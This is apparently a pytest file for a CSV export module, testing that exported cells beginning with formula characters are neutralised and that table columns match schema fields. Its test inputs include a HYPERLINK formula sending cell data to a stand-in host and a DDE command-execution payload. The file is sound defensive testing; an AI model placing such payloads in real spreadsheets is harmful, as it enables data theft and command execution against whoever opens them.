"""Tables, read back with Python's own csv."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest

from chalicelib.formats import csv as tables
from chalicelib.formats import schema
from chalicelib.formats.csv import Column, Table
from scripts import docs

WORDS = Table("words", (Column("words", "text", "the words"),))
ADDED = {"file", "url", "container_path"}
CARRIER = ADDED | {"date", "link", "title", "publisher", "dated_by", "article"}
KINDS: list[tuple[Table, type, set[str]]] = [
    (tables.QUOTES, schema.LedgerLine, ADDED | {"changed"}),
    (tables.ENTITIES, schema.Entity, CARRIER | {"key", "uncertain"}),
    (tables.KNOWN, schema.Known, ADDED),
    (tables.COMPANIONS, schema.Companion, set()),
    (tables.PLACES, schema.PlaceFound, ADDED),
    (tables.ARTICLES, schema.Summary, set()),
    (tables.PARTS, schema.Part, set()),
]
"""Tables, rows of theirs, and the columns that `service.sheets` brings to these, or another list has."""


def read(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline=""), strict=True))


def cell(value: Any) -> str:
    """What a reader has of one value."""
    ((words,),) = [row.values() for row in read(WORDS.write({"quotes": [{"text": value}]}))]
    return words


@pytest.mark.parametrize("start", [*"=+-@\t\r\n\0＝＋－＠", " =", "\u00a0=", "\n\n@"])
def test_a_formula_is_text(start: str) -> None:
    hostile = f"{start}HYPERLINK(\"https://evil.example/?\"&A1;'x')"
    assert cell(hostile) == f"'{hostile}"


@pytest.mark.parametrize("hostile", ["-1+1|cmd|' /C calc'!A0", "+1.2.3", "-", "+39 010 1", "--5", "-1\n=2", "-٣"])
def test_a_formula_may_begin_as_a_number(hostile: str) -> None:
    assert cell(hostile) == f"'{hostile}"


@pytest.mark.parametrize("number", ["-12.5", "+3", "-0", "1e5"])
def test_a_number_stays_one(number: str) -> None:
    assert cell(number) == number
    assert cell(float(number)) == str(float(number))


def test_numbers_are_not_quoted() -> None:
    assert WORDS.write({"quotes": [{"text": -12.5}, {"text": 0}]}) == '"words"\r\n-12.5\r\n0\r\n'


def test_what_is_not_there_is_empty() -> None:
    assert [cell(value) for value in (None, "", [], False, True)] == ["", "", "", "false", "true"]


@pytest.mark.parametrize(
    "words", ['“We”, she "said"', "a\r\nb", "a;=1+1", "a,b", '"', "ends with \\", "🚢 naïve", "l1\nl2", "'already"]
)
def test_words_come_back_as_they_were(words: str) -> None:
    assert cell(words) == words


def test_a_semicolon_opens_no_cell() -> None:
    """Excel parts cells at semicolons in half of Europe."""
    text = WORDS.write({"quotes": [{"text": 'a;=1+1;"";b'}]})
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert all(not field.startswith("=") for row in rows for field in row)


def test_lines_end_as_the_standard_has_it() -> None:
    assert WORDS.write({"quotes": []}) == '"words"\r\n'


def test_several_values_share_a_cell() -> None:
    table = Table("who", (Column("who", "affiliations.name", "who"),))
    rows = [{"affiliations": [{"name": "Port"}, {"name": None}, {"name": "City"}]}, {"affiliations": None}]
    assert [row["who"] for row in read(table.write({"entities": rows}))] == ["Port; City", ""]


def test_several_values_begin_no_formula() -> None:
    assert cell(["@adarossi", "Rossi"]) == "'@adarossi; Rossi"


def test_a_single_article_is_a_row() -> None:
    (row,) = read(tables.ARTICLES.write(docs.example(schema.Summary)))
    assert (row["article"], row["date"], row["lat"]) == (schema.ID, "2019-03-25", "44.40478")


@pytest.mark.parametrize("table", tables.TABLES, ids=lambda table: table.title)
def test_columns_have_names_of_their_own(table: Table) -> None:
    names = [column.name for column in table.columns]
    assert len(set(names)) == len(names)
    assert all(column.sentence for column in table.columns)


@pytest.mark.parametrize(("table", "kind", "added"), KINDS, ids=[table.title for table, *_ in KINDS])
def test_columns_are_fields_of_rows(table: Table, kind: type, added: set[str]) -> None:
    row = docs.example(kind)
    assert {column.name for column in table.columns if not has(row, column.path)} == added


def has(row: Any, path: str) -> bool:
    """Whether a row has a field, or nothing that could have it."""
    name, _, rest = path.partition(".")
    if isinstance(row, list):
        return all(has(one, path) for one in row)
    return row is None or (name in row and (not rest or has(row[name], rest)))
